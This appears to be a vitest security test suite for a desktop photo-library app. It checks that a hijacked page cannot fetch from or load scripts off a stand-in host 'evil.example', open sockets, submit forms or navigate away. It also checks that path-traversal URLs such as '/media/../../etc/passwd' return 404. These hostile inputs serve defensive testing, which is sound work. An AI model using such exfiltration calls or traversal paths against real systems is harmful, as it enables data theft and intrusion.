import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test, vi } from 'vitest';
import { command, passphrase } from '../hosts/cli/run-command.ts';
import { type Double, startDouble } from '../hosts/double/double.ts';
import { ask } from '../hosts/story/story-window.ts';

vi.setConfig({ testTimeout: 120_000, hookTimeout: 120_000 });

const sample = new URL('../samples/media__london-512.jpg', import.meta.url).pathname;

let home: string;
let double: Double;
/** The address of a picture that the gate let through to this window. */
let picture: string;

beforeAll(async () => {
  home = mkdtempSync(join(tmpdir(), 'custos-attack-'));
  const library = join(home, 'Ward.custos');
  writeFileSync(join(home, 'secret.html'), 'outside');
  const named = ['--library', library, '--user', 'Anna'];
  await command(['init', ...named]);
  await command(['import', sample, ...named]);
  double = await startDouble(home, library);
  const { page } = double;
  await page.getByLabel('Passphrase', { exact: true }).waitFor();
  await ask(page, 'session.unlock', { user: 'Anna', passphrase });
  const { tiles } = await ask(page, 'recording.window', { query: {}, offset: 0, limit: 1 });
  const { renditions } = await ask(page, 'recording.show', { recording: tiles[0]!.id });
  picture = (await ask(page, 'open.custody', { rendition: renditions[0]!.id, purpose: 'cataloguing' })).url;
});
afterAll(async () => {
  await double?.close();
  rmSync(home, { recursive: true, force: true });
});

/** A page of another origin in the same browser, as if a second window had come to be. */
async function otherPage() {
  const page = await double.page.context().newPage();
  await page.goto('data:text/html,<title>other</title>');
  return page;
}

describe('a page that has been taken over', () => {
  test.each([
    ['a fetch', () => fetch('https://evil.example/', { mode: 'no-cors' })],
    [
      'a beacon by fetch',
      () => fetch('http://127.0.0.1:9/', { method: 'POST', body: 'a name', mode: 'no-cors' }),
    ],
    [
      'a socket',
      () =>
        new Promise((resolve, reject) => {
          const socket = new WebSocket('ws://127.0.0.1:9/');
          socket.onopen = resolve;
          socket.onerror = reject;
        }),
    ],
    [
      'a picture',
      () =>
        new Promise((resolve, reject) => {
          const image = new Image();
          image.onload = resolve;
          image.onerror = reject;
          image.src = 'https://evil.example/a.png';
        }),
    ],
    ['a script', () => import(/* @vite-ignore */ 'https://evil.example/a.js' as string)],
    [
      'a worker',
      () =>
        new Promise((resolve, reject) => {
          const worker = new Worker('data:text/javascript,postMessage(1)');
          worker.onmessage = resolve;
          worker.onerror = reject;
        }),
    ],
    ['a service worker', () => navigator.serviceWorker.register('/media/x.js')],
    [
      // Later, since what a test itself hands over may do more than the page.
      'code from text',
      () =>
        new Promise((resolve, reject) => {
          setTimeout(() => {
            try {
              resolve(new Function('return 1')());
            } catch (error) {
              reject(error);
            }
          });
        }),
    ],
  ])('sends and fetches nothing by %s', async (_, attempt) => {
    const tried = await double.page.evaluate(attempt as () => Promise<unknown>).then(
      () => 'done',
      () => 'refused',
    );
    expect(tried).toBe('refused');
  });

  test('submits no form, not even to itself', async () => {
    const { address } = double;
    const violated = await double.page.evaluate(
      () =>
        new Promise<string>((resolve) => {
          document.addEventListener('securitypolicyviolation', (event) => resolve(event.violatedDirective), {
            once: true,
          });
          const form = document.createElement('form');
          form.action = 'https://evil.example/';
          form.method = 'post';
          document.body.append(form);
          form.submit();
        }),
    );
    expect(violated).toBe('form-action');
    expect(double.page.url()).toContain(address);
  });

  test.each(['data:text/html,x', 'https://evil.example/', 'javascript:document.title="taken"'])(
    'goes not to %s',
    async (url) => {
      await double.page.evaluate((to) => {
        location.href = to;
      }, url);
      expect(await double.page.title()).not.toBe('taken');
      expect(double.page.url()).toContain(double.address);
    },
  );
});

describe('another page', () => {
  test('gets no answer from the program, whatever it calls', async () => {
    const page = await otherPage();
    const answers = await page.evaluate(async () => {
      const invoke = (
        window as unknown as { __invoke?: (channel: string, args: unknown[]) => Promise<unknown> }
      ).__invoke;
      if (!invoke) return 'no way in';
      return Promise.all([
        invoke('custos:call', ['library.status', {}]),
        invoke('custos:chooseFiles', []),
        invoke('custos:chooseFolder', ['library']),
        invoke('custos:offerMenu', [[{ id: 'go.away', name: 'Away', stroke: null }]]),
      ]);
    });
    if (answers !== 'no way in')
      expect(answers).toEqual([expect.objectContaining({ ok: false }), [], null, null]);
    expect(double.of('menu').at(-1)?.labels).not.toContain('Away');
    await page.close();
  });

  test('reads neither the picture nor the page', async () => {
    const page = await otherPage();
    const seen = await page.evaluate(
      async ([base, path]) => {
        const image = new Image();
        const shown = new Promise<string>((resolve) => {
          image.onload = () => resolve('shown');
          image.onerror = () => resolve('refused');
        });
        image.src = base + path;
        const read = fetch(base + path).then(
          () => 'read',
          () => 'refused',
        );
        return Promise.all([shown, read]);
      },
      [double.address, picture] as const,
    );
    expect(seen).toEqual(['refused', 'refused']);
    await page.close();
  });
});

describe('addresses', () => {
  const status = (path: string): Promise<{ status: number; text: string }> =>
    double.page.evaluate(async (to) => {
      const answer = await fetch(to);
      return { status: answer.status, text: answer.ok ? (await answer.text()).slice(0, 50) : '' };
    }, path);

  test.each([
    '/..%2f..%2fsecret.html',
    '/%2e%2e/%2e%2e/secret.html',
    '/assets/..%5c..%5c..%5csecret.html',
    '/index.html%00.js',
    '/media/..%2f..%2findex.html',
    '/media/../../etc/passwd',
    '/thumb/%2e%2e%2fcatalogue.db',
    '/package.json',
    '/main.tsx',
  ])('%s lead to nothing', async (path) => {
    expect((await status(path)).status).toBe(404);
  });

  test('of pictures are guessed by nobody, and die with the lock', async () => {
    expect((await status(picture)).status).toBe(200);
    const [, token = ''] = picture.split('/');
    const near = (token.startsWith('0') ? '1' : '0') + token.slice(1);
    expect((await status(`/media/${near}`)).status).toBe(404);
    expect((await status(`/thumb/${token}`)).status).toBe(404);
    double.tell({ kind: 'power', event: 'user-did-resign-active' });
    await expect.poll(async () => (await status(picture)).status).toBe(404);
  });
});
